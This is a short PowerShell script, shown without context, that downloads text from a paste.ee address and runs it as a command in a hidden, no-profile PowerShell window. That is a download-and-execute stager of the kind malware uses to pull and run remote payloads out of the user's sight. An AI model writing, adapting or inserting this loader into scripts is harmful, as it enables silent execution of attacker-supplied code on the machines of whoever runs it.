$wc = New-Object System.Net.WebClient
$cfg = $wc.DownloadString("https://paste.ee/r/aB3dE")
Start-Process -WindowStyle Hidden -FilePath powershell -ArgumentList "-nop -c $cfg"
